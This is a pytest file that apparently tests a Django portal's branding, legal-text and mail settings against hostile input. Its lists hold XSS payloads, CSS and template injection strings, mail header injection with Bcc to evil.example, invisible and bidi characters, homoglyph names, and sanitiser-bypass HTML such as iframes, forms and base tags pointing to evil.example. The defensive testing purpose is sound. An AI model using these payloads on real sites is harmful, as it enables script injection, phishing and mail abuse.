"""The pack of hostile texts in every field of branding: refused in words or harmless in HTML, CSS, JSON and mail."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.core import mail

from portal.people.mail import send, sender
from tenants.context import in_operator
from tenants.lookup import operator_by_id
from tenants.models import Branding
from tests.branding.conftest import LOOK

PACK = [
    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>", "' onmouseover='alert(1)", "url(https://evil.example/x)", "@import 'https://evil.example/'",
    "expression(alert(1))", "red;} body{display:none", "javascript:alert(1)", "{{ settings.SECRET_KEY }}",
    "{% load static %}{% static 'x' %}", "%(name)s %s {0}", "</textarea><script>alert(1)</script>",
    "<!--", "]]>", "&lt;script&gt;", "\\3c script\\3e", "data:text/html,<script>alert(1)</script>",
]  # fmt: skip
UNSEEN = [
    "Ac\x00me", "Ac\x07me", "Acme\r\nBcc: all@evil.example", "Acme\nX-Evil: 1", "Ac\u202eme", "Ac\u2066me",
    "Ac\u200bme", "Ac\u2028me", "Ac\x1b[31mme", "Ac\x85me",
]  # fmt: skip
CONTACT = {"sender_name": "", "sender_address": "", "support_email": "", "support_phone": "", "support_url": ""}
LEGAL = {"terms": "", "privacy": "", "imprint": "", "invoice_header": ""}
FIELDS = (
    [("/branding/", LOOK, name) for name in LOOK]
    + [("/branding/contact/", CONTACT, name) for name in CONTACT]
    + [("/branding/legal/", LEGAL, name) for name in LEGAL]
)
PAGES = ("/sign-in/", "/", "/branding/", "/branding/contact/", "/branding/legal/", "/dashboard/", "/nothing-here/")
LEGAL_PAGES = ("/legal/terms/", "/legal/privacy/", "/legal/imprint/")


class Harm(HTMLParser):
    """Collects what a browser would run or fetch from elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("style", "svg", "iframe", "object", "embed", "base") and not (
            tag == "svg" and ("class", "icon") in [(k, (v or "").split()[0] if v else "") for k, v in attrs]
        ):
            self.found.append(tag)
        if tag == "script" and not dict(attrs).get("src", "").startswith("/static/"):
            self.found.append("script")
        for key, value in attrs:
            value = (value or "").strip().lower()
            if key.startswith("on") or key == "style":
                self.found.append(f"{tag} {key}")
            if key in ("href", "src", "action", "srcset") and value.startswith(
                ("javascript:", "data:", "vbscript:", "//")
            ):
                self.found.append(f"{tag} {key}={value}")


def harm(page: str) -> list[str]:
    reader = Harm()
    reader.feed(page)
    return reader.found


def test_the_reader_of_these_tests_finds_harm():
    for text in PACK[:5]:
        if "<" in text:
            assert harm(f"<p>{text}</p>"), text
    assert harm('<a href="javascript:x">') and harm('<p style="x">')


@pytest.mark.parametrize(("path", "rest", "field"), FIELDS, ids=[one[2] for one in FIELDS])
def test_markup_and_style_in_a_field_do_nothing(house, browser_for, path, rest, field):
    rita, nobody = browser_for(house.acme, "rita"), browser_for(house.acme)
    sheet = nobody.get("/brand.css").content.decode()
    for text in PACK:
        answer = rita.post(path, rest | {field: text, "use_accent": "on"})
        if answer.status_code != 302:
            assert answer.status_code == 422, text
            assert answer.context["form"].errors[field], text
            assert harm(answer.content.decode()) == [], text
            continue
        for page in PAGES + LEGAL_PAGES:
            shown = (rita if page.startswith(("/branding", "/dash")) else nobody).get(page)
            assert shown.status_code in (200, 404)
            assert harm(shown.content.decode()) == [], (text, page)
        assert nobody.get("/brand.css").content.decode() == sheet
        assert nobody.get("/manifest.webmanifest").json()["theme_color"] == "#b3261e"


@pytest.mark.parametrize(("path", "rest", "field"), FIELDS, ids=[one[2] for one in FIELDS])
def test_characters_that_nobody_sees_are_refused_in_every_field(house, browser_for, path, rest, field):
    rita = browser_for(house.acme, "rita")
    with in_operator(house.acme):
        before = Branding.objects.values().get(pk=house.acme.pk)
    several = field in LEGAL
    for text in UNSEEN:
        # A text of several lines may have line ends; those of mails and pages in one line may not.
        if several and ("\n" in text or text == "Ac\u2028me"):
            continue
        answer = rita.post(path, rest | {field: text, "use_accent": "on"})
        assert answer.status_code == 422, repr(text)
        assert len(answer.context["form"].errors[field]) >= 1
    with in_operator(house.acme):
        assert Branding.objects.values().get(pk=house.acme.pk) == before


@pytest.mark.parametrize(
    "colour",
    ["red", "#fff", "#12345g", "#1234567", "rgb(1,2,3)", "#b3261e;}", "#b3261e</style>", "url(x)", "expression(1)", "",
     "#b3261e\n", "＃b3261e", "#١٢٣٤٥٦"],
)  # fmt: skip
def test_a_colour_is_six_digits_or_refused(house, browser_for, colour):
    rita = browser_for(house.acme, "rita")
    answer = rita.post("/branding/", LOOK | {"primary": colour})
    if colour.strip() == "#b3261e":
        assert answer.status_code == 302
    else:
        assert answer.status_code == 422
    assert operator_by_id(house.acme.pk).branding.primary == "#b3261e"
    for path in ("/branding/preview.css", "/branding/preview/"):
        shown = rita.get(path, {"primary": colour, "accent": ""})
        assert shown.status_code in (200, 404)
        assert b"evil" not in shown.content and b"</style" not in shown.content.replace(b"&lt;/style", b"")


def test_the_sheet_has_nothing_but_colours(house, browser_for):
    rita = browser_for(house.acme, "rita")
    rita.post("/branding/", LOOK | {"primary": "#0f766e", "accent": "#ffcc00", "use_accent": "on"})
    sheet = browser_for(house.acme).get("/brand.css").content.decode()
    assert re.fullmatch(r":root \{\n(  --[a-z-]+: light-dark\(#[0-9a-f]{6}, #[0-9a-f]{6}\);\n)+\}\n", sheet)


LEGAL_TRICKS = [
    "<p onclick=alert(1)>x</p>", "<a href='javascript:alert(1)'>x</a>", "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,x'>x</a>", "<img src=x>", "<iframe src=//evil.example></iframe>", "<style>*{}</style>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>",
    "<form action=//evil.example><input name=password></form>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<p class=x id=y style='color:red'>x</p>",
    "<p><b>unclosed <ul><li>x", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]  # fmt: skip


@pytest.mark.parametrize("text", LEGAL_TRICKS)
def test_legal_texts_keep_words_and_lose_tricks(house, browser_for, text):
    rita = browser_for(house.acme, "rita")
    assert rita.post("/branding/legal/", LEGAL | {"terms": f"Fine print. {text}"}).status_code == 302
    page = browser_for(house.acme).get("/legal/terms/").content.decode()
    article = page[page.index("<article") : page.index("</article")]
    assert "Fine print." in article and harm(page) == []
    assert set(re.findall(r"<([a-z0-9]+)", article)) <= {"article", "h1", "div", "p", "b", "ul", "li", "a", "br"}
    for trick in ("class=x", "id=y", "evil.example"):
        assert trick not in article


def test_what_is_stored_is_not_trusted_either(house, browser_for):
    with in_operator(house.acme):
        Branding.objects.filter(pk=house.acme.pk).update(terms="<script>alert(1)</script><p onclick=x>Words</p>")
    page = browser_for(house.acme).get("/legal/terms/").content.decode()
    assert "Words" in page and harm(page) == []


def test_simple_tags_and_plain_paragraphs_come_through(house, browser_for):
    rita, nobody = browser_for(house.acme, "rita"), browser_for(house.acme)
    rich = '<h2>Scope</h2><p>Between <b>us</b> and <a href="https://acme.example/">you</a>.</p><ul><li>One</li></ul>'
    rita.post("/branding/legal/", LEGAL | {"terms": rich, "privacy": "First.\n\nSecond & last."})
    terms, privacy = (nobody.get(f"/legal/{kind}/").content.decode() for kind in ("terms", "privacy"))
    assert "<h2>Scope</h2>" in terms and '<a href="https://acme.example/" rel="noopener noreferrer nofollow">' in terms
    assert "<p>First.</p>" in privacy and "<p>Second &amp; last.</p>" in privacy
    assert nobody.get("/legal/imprint/").status_code == 404
    foot = nobody.get("/sign-in/").content.decode()
    assert "/legal/terms/" in foot and "/legal/privacy/" in foot and "/legal/imprint/" not in foot
    assert browser_for(house.beta).get("/legal/terms/").status_code == 404


def test_mail_headers_can_not_be_written_by_a_name(house):
    with in_operator(house.acme):
        look = Branding.objects.get(pk=house.acme.pk)
        look.name, look.sender_name = 'Acme, Inc. "The <Best>"', "Bcc: all@evil.example, <x@evil.example>"
        look.save()
        acme = operator_by_id(house.acme.pk)
        send(acme, "carla@acme.localhost", "people/invitation_mail.txt", {"username": "carla", "link": "http://x/"})
    sent = mail.outbox[-1].message()
    assert sorted(sent.keys()) == sorted(
        ["Content-Type", "MIME-Version", "Content-Transfer-Encoding", "Subject", "From", "To", "Date", "Message-ID"]
    )
    assert sent["To"] == "carla@acme.localhost"
    assert "no-reply@acme.localhost" in sender(acme)


def test_the_sender_must_be_at_an_own_verified_domain(house, browser_for):
    rita = browser_for(house.acme, "rita")
    for address in ("billing@beta.localhost", "billing@root.localhost", "me@gmail.com", "x@sub.acme.localhost"):
        answer = rita.post("/branding/contact/", CONTACT | {"sender_address": address})
        assert answer.status_code == 422 and "verified domains" in str(answer.context["form"].errors)
    assert rita.post("/branding/contact/", CONTACT | {"sender_address": "billing@acme.localhost"}).status_code == 302
    assert "billing@acme.localhost" in sender(operator_by_id(house.acme.pk))


@pytest.mark.parametrize("name", ["Вeta Voice", "8eta\u0456 Vоice", "Beta V0ice", "   ", "...", "BETA-V0ICE"])
def test_a_portal_name_that_passes_for_another_s_is_refused(house, browser_for, name):
    with in_operator(house.beta):
        Branding.objects.get(pk=house.beta.pk).save()
    answer = browser_for(house.acme, "rita").post("/branding/", LOOK | {"name": name})
    assert answer.status_code == 422 and answer.context["form"].errors["name"]
    assert operator_by_id(house.acme.pk).branding.name == "Acme Telecom"
